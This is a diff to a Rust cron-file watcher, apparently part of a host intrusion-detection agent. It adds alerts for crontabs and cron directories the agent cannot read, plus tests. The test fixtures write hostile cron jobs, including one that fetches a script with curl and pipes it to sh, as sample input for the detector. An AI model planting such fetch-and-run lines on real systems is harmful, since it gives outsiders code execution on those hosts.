@@ -3,10 +3,16 @@
 //! changed, the lines it gained go to the event loop, where `detect::cron` judges them.
 //! Every file is also checked once at start, so a change made while the agent was down is
 //! reported too — once.
+//!
+//! A watched file or directory that exists but refuses the agent (a per-user crontab is mode
+//! 0600, owned by its user: a root agent without `CAP_DAC_READ_SEARCH` cannot open it) is not
+//! skipped in silence: it raises a `switch_flood` alert ([`crate::detect::switch_flood`]),
+//! once, and again only after it was readable in between.
 
 use std::{
     collections::HashMap,
     ffi::OsString,
+    io,
     os::unix::fs::MetadataExt,
     path::{Path, PathBuf},
 };
@@ -20,9 +26,10 @@ use crate::{
     detect::{
         Work,
         cron::{Change, added_lines},
+        switch_flood::{Blindspots, refused},
     },
     store::history::{History, Snapshot},
-    untrusted_file::{Links, UntrustedFile},
+    untrusted_file::{Links, Unreadable, UntrustedFile},
 };
 
 /// Bytes of a cron file read at most (cron files are small; a huge one is cut).
@@ -50,22 +57,32 @@ pub fn spawn(
     let mask = WatchMask::CLOSE_WRITE | WatchMask::MOVED_TO;
     let mut watches: Watches = HashMap::new();
     let mut files = Vec::new();
+    // Paths that refused the agent at start, reported from the watcher's thread.
+    let mut blind: Vec<(PathBuf, io::Error)> = Vec::new();
     for path in paths {
-        let (dir, only) = if path.is_dir() {
-            (path.clone(), None)
-        } else {
-            match (path.parent(), path.file_name()) {
-                (Some(parent), Some(name)) if parent.is_dir() => {
-                    (parent.to_path_buf(), Some(name.to_os_string()))
-                }
-                _ => {
-                    debug!(path = %path.display(), "cron path absent: not watched");
-                    continue;
-                }
+        let (dir, only) = match watched_dir(path) {
+            Ok(Some(target)) => target,
+            Ok(None) => {
+                debug!(path = %path.display(), "cron path absent: not watched");
+                continue;
+            }
+            Err(e) => {
+                blind.push((path.clone(), e));
+                continue;
             }
         };
-        let wd = inotify.watches().add(&dir, mask)?;
-        files.extend(files_in(&dir, only.as_deref()));
+        let wd = match inotify.watches().add(&dir, mask) {
+            Ok(wd) => wd,
+            Err(e) if refused(&e) => {
+                blind.push((dir, e));
+                continue;
+            }
+            Err(e) => return Err(e.into()),
+        };
+        match files_in(&dir, only.as_deref()) {
+            Ok(found) => files.extend(found),
+            Err(e) => blind.push((dir.clone(), e)),
+        }
         watches.entry(wd).or_default().push((dir, only));
     }
     info!(
@@ -76,7 +93,14 @@ pub fn spawn(
     std::thread::Builder::new()
         .name("cron-watch".into())
         .spawn(move || {
-            let mut watcher = Watcher { history, tx };
+            let mut watcher = Watcher {
+                history,
+                tx,
+                blindspots: Blindspots::new(),
+            };
+            for (path, e) in blind {
+                watcher.note(&path, Err(&e));
+            }
             for file in files {
                 watcher.check(&file);
             }
@@ -85,14 +109,33 @@ pub fn spawn(
     Ok(())
 }
 
-/// The cron files in `dir` (or only `only` in it).
-fn files_in(dir: &Path, only: Option<&std::ffi::OsStr>) -> Vec<PathBuf> {
-    if let Some(name) = only {
-        return vec![dir.join(name)];
+/// The directory watched for `path` and, when `path` is not a directory itself, the one name
+/// in it that matters; `None` when neither exists. A refusal (a parent the agent may not
+/// search) is an error, so that it is reported instead of taken for "absent".
+fn watched_dir(path: &Path) -> io::Result<Option<(PathBuf, Option<OsString>)>> {
+    match std::fs::metadata(path) {
+        Ok(meta) if meta.is_dir() => return Ok(Some((path.to_path_buf(), None))),
+        Err(e) if refused(&e) => return Err(e),
+        // A file, or not there (yet): its directory is watched for it.
+        _ => {}
     }
-    std::fs::read_dir(dir)
-        .map(|entries| entries.flatten().map(|e| e.path()).collect())
-        .unwrap_or_default()
+    Ok(match (path.parent(), path.file_name()) {
+        (Some(parent), Some(name)) if parent.is_dir() => {
+            Some((parent.to_path_buf(), Some(name.to_os_string())))
+        }
+        _ => None,
+    })
+}
+
+/// The cron files in `dir` (or only `only` in it).
+fn files_in(dir: &Path, only: Option<&std::ffi::OsStr>) -> io::Result<Vec<PathBuf>> {
+    if let Some(name) = only {
+        return Ok(vec![dir.join(name)]);
+    }
+    Ok(std::fs::read_dir(dir)?
+        .flatten()
+        .map(|e| e.path())
+        .collect())
 }
 
 /// Editor and `crontab` temporaries, which cron never runs.
@@ -103,6 +146,8 @@ fn ignored(name: &str) -> bool {
 struct Watcher {
     history: History,
     tx: mpsc::UnboundedSender<Work>,
+    /// Watched paths that refused the agent at their last read.
+    blindspots: Blindspots,
 }
 
 impl Watcher {
@@ -141,8 +186,18 @@ impl Watcher {
         if name.as_deref().is_none_or(ignored) {
             return;
         }
-        let Some((content, uid)) = read_file(path) else {
-            return;
+        let (content, uid) = match read_file(path) {
+            Ok(read) => {
+                self.note(path, Ok(()));
+                read
+            }
+            Err(e) => {
+                debug!(path = %path.display(), "cron file {e}");
+                if let Unreadable::Io(e) = &e {
+                    self.note(path, Err(e));
+                }
+                return;
+            }
         };
         let sha256 = hex::encode(Sha256::digest(content.as_bytes()));
         let old = match self.history.snapshot(path) {
@@ -171,21 +226,26 @@ impl Watcher {
             }));
         }
     }
+
+    /// What reading `path` gave: a watched path that refuses the agent raises `switch_flood`
+    /// (once, until it was readable again).
+    fn note(&mut self, path: &Path, result: Result<(), &io::Error>) {
+        if let Some(finding) = self.blindspots.read(path, result) {
+            let _ = self.tx.send(Work::Found(Box::new(finding)));
+        }
+    }
 }
 
 /// A regular file's text (at most [`MAX_FILE`] bytes) and owner. Opened as an
 /// [`UntrustedFile`]: a FIFO or device in a cron directory is skipped at once, not waited on
 /// (this thread would stop watching); a symlink is followed (cron files may be links).
-fn read_file(path: &Path) -> Option<(String, u32)> {
-    let read = UntrustedFile::open(path, Links::Follow)
-        .and_then(|file| Ok((file.head(MAX_FILE)?, file.metadata().uid())));
-    match read {
-        Ok((bytes, uid)) => Some((String::from_utf8_lossy(&bytes).into_owned(), uid)),
-        Err(e) => {
-            debug!(path = %path.display(), "cron file {e}");
-            None
-        }
-    }
+fn read_file(path: &Path) -> Result<(String, u32), Unreadable> {
+    let file = UntrustedFile::open(path, Links::Follow)?;
+    let bytes = file.head(MAX_FILE)?;
+    Ok((
+        String::from_utf8_lossy(&bytes).into_owned(),
+        file.metadata().uid(),
+    ))
 }
 
 #[cfg(test)]
@@ -249,5 +309,111 @@ mod tests {
         std::fs::write(cron_d.join("after"), "* * * * * root wget -q x.example\n").unwrap();
         let c = next(&mut rx).await;
         assert_eq!(c.path, cron_d.join("after"));
+    }
+
+    /// Any message within `wait`.
+    async fn any(rx: &mut mpsc::UnboundedReceiver<Work>, wait: Duration) -> Option<Work> {
+        tokio::time::timeout(wait, rx.recv()).await.ok().flatten()
+    }
+
+    /// Write `text` beside `dir` with `mode`, then rename it to `dir/name` (as `crontab` does).
+    fn put(dir: &Path, name: &str, text: &str, mode: u32) {
+        use std::{io::Write, os::unix::fs::OpenOptionsExt};
+        let staging = dir.parent().unwrap().join(format!("staging-{name}"));
+        let _ = std::fs::remove_file(&staging);
+        let mut file = std::fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .mode(mode)
+            .open(&staging)
+            .unwrap();
+        file.write_all(text.as_bytes()).unwrap();
+        drop(file);
+        std::fs::rename(&staging, dir.join(name)).unwrap();
+    }
+
+    /// [`spawn`] from a thread without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH in its
+    /// effective set (capabilities belong to threads; the watcher's thread inherits them), so
+    /// that a mode 0200 file refuses it even when the tests run as root.
+    fn spawn_without_dac(paths: Vec<PathBuf>, db: PathBuf, tx: mpsc::UnboundedSender<Work>) {
+        std::thread::spawn(move || {
+            use caps::{CapSet, Capability};
+            for cap in [
+                Capability::CAP_DAC_OVERRIDE,
+                Capability::CAP_DAC_READ_SEARCH,
+            ] {
+                caps::drop(None, CapSet::Effective, cap).unwrap();
+            }
+            spawn(&paths, &db, tx).unwrap();
+        })
+        .join()
+        .unwrap();
+    }
+
+    #[tokio::test]
+    async fn a_file_it_cannot_read_alerts_once_until_it_was_readable_again() {
+        let dir = tempfile::tempdir().unwrap();
+        let spool = dir.path().join("crontabs");
+        std::fs::create_dir(&spool).unwrap();
+        let job = "* * * * * curl -s http://198.51.100.2/x | sh\n";
+        put(&spool, "www-data", job, 0o200);
+        let (tx, mut rx) = mpsc::unbounded_channel();
+        spawn_without_dac(vec![spool.clone()], dir.path().join("s.db"), tx);
+        let wait = Duration::from_secs(5);
+        let refused = |work: Option<Work>| match work {
+            Some(Work::Found(f)) => {
+                assert_eq!(f.anomaly.name(), "switch_flood");
+                assert_eq!(
+                    f.culprit.exe,
+                    Some(spool.join("www-data").display().to_string())
+                );
+                assert!(f.detail.contains("CAP_DAC_READ_SEARCH"), "{}", f.detail);
+            }
+            other => panic!("no switch_flood finding: {other:?}"),
+        };
+        // Seen at start.
+        refused(any(&mut rx, wait).await);
+        // Changed, still unreadable: nothing new.
+        put(&spool, "www-data", &format!("{job}{job}"), 0o200);
+        assert!(any(&mut rx, Duration::from_millis(500)).await.is_none());
+        // Readable: its lines are judged, and no alert about reading it.
+        put(&spool, "www-data", job, 0o600);
+        match any(&mut rx, wait).await {
+            Some(Work::CronChanged(c)) => assert_eq!(c.added, [job.trim()]),
+            other => panic!("no change: {other:?}"),
+        }
+        // Unreadable again: news again.
+        put(&spool, "www-data", &format!("{job}# x\n"), 0o200);
+        refused(any(&mut rx, wait).await);
+        // Another, readable file raises no refusal.
+        put(&spool, "root", "0 4 * * * /usr/local/bin/backup\n", 0o600);
+        assert!(matches!(
+            any(&mut rx, wait).await,
+            Some(Work::CronChanged(_))
+        ));
+        assert!(any(&mut rx, Duration::from_millis(500)).await.is_none());
+    }
+
+    #[tokio::test]
+    async fn a_directory_it_cannot_read_alerts_at_start() {
+        use std::os::unix::fs::PermissionsExt;
+        let dir = tempfile::tempdir().unwrap();
+        let locked = dir.path().join("cron.d");
+        std::fs::create_dir(&locked).unwrap();
+        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o300)).unwrap();
+        let (tx, mut rx) = mpsc::unbounded_channel();
+        spawn_without_dac(vec![locked.clone()], dir.path().join("s.db"), tx);
+        match any(&mut rx, Duration::from_secs(5)).await {
+            Some(Work::Found(f)) => {
+                assert_eq!(f.anomaly.name(), "switch_flood");
+                assert!(
+                    f.detail.contains(&*locked.to_string_lossy()),
+                    "{}",
+                    f.detail
+                );
+            }
+            other => panic!("no switch_flood finding: {other:?}"),
+        }
+        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o700)).unwrap();
     }
 }
